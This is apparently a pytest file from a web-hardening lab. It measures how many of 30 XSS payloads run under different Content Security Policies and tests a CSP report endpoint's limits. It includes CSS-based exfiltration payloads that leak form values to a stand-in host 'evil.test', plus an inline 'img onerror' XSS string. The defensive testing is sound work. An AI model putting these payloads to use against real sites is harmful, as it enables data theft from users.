"""What a browser runs when encoding was forgotten, by policy; and reports."""

import json
from pathlib import Path

import pytest

from lab.record import evidence, figure
from lab.run import load, node, process

from .shared import (
    POLICIES,
    TOPIC,
    javascript,
    ran,
)

SOURCE = node.label(Path(__file__))


def payloads(evil: str) -> dict[str, dict[str, str]]:
    return json.loads(
        node.printed(f"""
    import {{ ELSEWHERE, INLINE, OURS }} from '{node.uri("hardening/payloads.mjs")}';
    const kinds = {{ inline: INLINE, elsewhere: ELSEWHERE('{evil}'), ours: OURS }};
    console.log(JSON.stringify(kinds));
    """)
    )


def executed(look, host) -> dict[str, dict[str, bool]]:
    return {
        kind: {name: ran(look(note)) for name, note in notes.items()}
        for kind, notes in payloads(host("evil.test")).items()
    }


@pytest.mark.claim("hardening/csp-default-stops-xss", verdict="depends")
@pytest.mark.claim("hardening/https-stops-injection", verdict="wrong")
def test_helmets_policy_runs_what_our_own_site_serves_and_the_nonce_nothing(forgotten):
    for policy, expected in (
        ("none", [True, True, True, True]),
        ("Helmet's default", [False, False, True, True]),
        ("nonce", [False, False, False, False]),
    ):
        with forgotten(policy) as (look, host, _):
            kinds = payloads(host("evil.test"))
            some = [
                kinds["inline"]["img onerror"],
                kinds["elsewhere"]["base"],
                kinds["ours"]["uploaded .js"],
                kinds["ours"]["JSONP"],
            ]
            assert [ran(look(note)) for note in some] == expected, policy


@pytest.mark.records
def test_thirty_payloads_in_chromium_by_policy(forgotten):
    """Exact counts; here since it records a figure, and takes its time."""
    rows = {}
    for policy in list(POLICIES)[:3]:
        with forgotten(policy) as (look, host, _):
            rows[policy] = executed(look, host)
    counts = {
        policy: [sum(notes.values()) for notes in kinds.values()]
        for policy, kinds in rows.items()
    }
    assert list(counts.values()) == [[21, 3, 6], [0, 0, 6], [0, 0, 0]]
    for key, policy, expected in (
        ("xss-none", "none", 30),
        ("xss-default", "Helmet's default", 6),
        ("xss-nonce", "nonce", 0),
    ):
        evidence.hold(
            f"{TOPIC}/{key}", sum(counts[policy]), "payloads",
            f"XSS payloads that ran in Chromium, policy: {policy}", source=SOURCE,
            above=expected - 0.5, below=expected + 0.5,
        )  # fmt: skip
    drawing, axes = figure.plot(height=2.6)
    kinds = ["inline, or javascript:", "another host, or base", "our own site's files"]
    left = [0, 0, 0]
    for index, kind in enumerate(kinds):
        some = [counts[policy][index] for policy in counts]
        axes.barh(list(counts), some, left=left, label=kind, height=0.5)
        for row, (start, n) in enumerate(zip(left, some, strict=True)):
            if n:
                axes.text(start + n / 2, row - 0.28, n, ha="center", va="bottom")
        left = [a + b for a, b in zip(left, some, strict=True)]
    axes.set_xlabel("payloads that ran, of 30")
    axes.set_xlim(0, 30.5)
    axes.set_ylim(2.4, -0.7)
    axes.legend(loc="lower right")
    axes.grid(visible=False, axis="y")
    figure.publish(
        f"{TOPIC}/csp", drawing,
        "Bars by policy: without one all 30 XSS payloads ran in Chromium; under Helmet's "
        "default 6 ran, all of them scripts from the site itself; under the policy by "
        "nonce none.",
        {"policy": list(counts)}
        | {kind: [counts[p][i] for p in counts] for i, kind in enumerate(kinds)},
        source=SOURCE,
    )  # fmt: skip


def test_strict_dynamic_trusts_what_our_own_script_loads(forgotten):
    with forgotten("strict-dynamic") as (look, host, _):
        ours = payloads(host("evil.test"))["ours"]
        assert ran(look(ours["widget, uploaded .js"]))
        assert not ran(look(ours["uploaded .js"]))


LEAKS = {
    "@import": "<style>@import url({evil}/leak-import)</style>",
    "font by value": "<style>@font-face{{font-family:f;src:url({evil}/leak-s)}}"
    "input[value^=s]{{font-family:f}}</style>",
    "image by value": "<style>input[value^=s]{{background:url({evil}/leak-i)}}</style>",
    "img": "<img src={evil}/leak-img>",
}


@pytest.mark.claim("hardening/no-script-no-leak", verdict="wrong")
def test_without_any_script_a_style_tells_another_host_what_the_field_holds(forgotten):
    seen = {}
    for policy in list(POLICIES)[:3]:
        with forgotten(policy) as (look, host, page):
            for markup in LEAKS.values():
                look(markup.format(evil=host("evil.test")))
            page.goto(f"{host('evil.test')}/seen")
            asked = json.loads(page.inner_text("body"))
            seen[policy] = {one for one in asked if one.startswith("/leak")}
    assert seen["none"] == {"/leak-import", "/leak-s", "/leak-i", "/leak-img"}
    assert seen["Helmet's default"] == {"/leak-import", "/leak-s"}
    assert seen["nonce"] == set()


@pytest.mark.claim("hardening/report-only-protects", verdict="wrong")
def test_a_policy_that_only_reports_reports_and_stops_nothing(forgotten):
    with forgotten("nonce, reported only") as (look, host, _):
        said = look("<img src=x onerror=\"console.log('ran')\">")
        assert ran(said)

        def reported() -> list[dict]:
            with load.client(host("127.0.0.1"), headers={"Host": "shop.test"}) as client:
                return client.get("/reported").json()

        process.until(reported)
        assert reported()[0]["directive"] == "script-src-attr"
        assert reported()[0]["blocked"] == "inline"


def test_a_report_is_small_json_and_what_is_in_it_becomes_short_text():
    seen = node.printed(
        f"""
    import {{ reports }} from '{node.uri("hardening/reports.mjs")}';
    """
        + """
    import express from 'express';
    import { once } from 'node:events';
    const told = [];
    const app = express().use(reports({ logger: { info: (one) => told.push(one) } }));
    const server = app.listen(0, '127.0.0.1');
    await once(server, 'listening');
    async function send(body, type = 'csp-report') {
      const headers = { 'Content-Type': `application/${type}` };
      const url = `http://127.0.0.1:${server.address().port}/csp-reports`;
      return (await fetch(url, { method: 'POST', headers, body })).status;
    }
    const long = { 'csp-report': { 'blocked-uri': 'x'.repeat(5000), 'document-uri': {} } };
    console.log(await send(JSON.stringify(long)), await send('[]'), await send(''));
    console.log(await send('x'.repeat(9000)), told[0].blocked.length, told[0].page);
    console.log(await send('[{}]', 'reports+json'), told.length);
    const codes = [];
    for (let i = 0; i < 30; i += 1) codes.push(await send(JSON.stringify(long)));
    console.log(codes.indexOf(429), codes.at(-1), told.length);
    server.close();
    server.closeAllConnections();
    """
    )
    # what is no report is not logged, and anybody's thirtieth in a minute is their last
    assert seen.splitlines() == ["204 400 400", "413 200 ", "400 1", "25 429 26"]


def test_a_report_of_things_that_are_no_text_is_logged_without_them(twin):
    """`String()` of such an object throws, and would have been an error of ours."""
    body = '{"csp-report": {"blocked-uri": {"toString": 1, "valueOf": 1}, "x": [1]}}'
    with node.serve(twin("app.mjs")) as server, server.client() as client:
        kind = {"Content-Type": "application/csp-report"}
        for one in (body, '{"csp-report": 7}', '{"csp-report": {"__proto__": 1}}'):
            assert (
                client.post("/csp-reports", content=one, headers=kind).status_code == 204
            )
        assert server.output().count("csp report") == 3
        assert "Error" not in server.output()


def test_reports_are_counted_before_they_are_read(twin):
    kind = {"Content-Type": "application/csp-report"}
    with node.serve(twin("app.mjs")) as server, server.client() as client:
        codes = [
            client.post("/csp-reports", content="x" * 9000, headers=kind).status_code
            for _ in range(31)
        ]
    assert codes == [413] * 30 + [429]


def test_over_a_unix_socket_where_nobody_has_an_address_reports_are_taken(tmp_path):
    said = javascript(
        f"const path = '{tmp_path}/s';"
        + """
    import { createServer, request } from 'node:http';
    import { once } from 'node:events';
    import { createApp } from '@/hardening/app.mjs';
    console.error = () => {}; // the limiter says once that there is no address
    const logger = { info() {}, error() {} };
    const codes = [];
    for (const proxies of [false, ['127.0.0.1']]) {
      const server = createServer(createApp({ logger, proxies })).listen(path);
      await once(server, 'listening');
      for (const [method, url] of [['POST', '/csp-reports'], ['GET', '/login']]) {
        const headers = { 'Content-Type': 'application/csp-report',
          'X-Forwarded-For': '203.0.113.9' };
        const sent = request({ socketPath: path, agent: false, method, path: url, headers });
        const [answer] = await once(sent.end('{"csp-report":{}}'), 'response');
        codes.push(answer.resume().statusCode);
      }
      server.close();
      server.closeAllConnections();
    }
    console.log(JSON.stringify(codes));
    """
    )
    assert said == [204, 200, 204, 200]
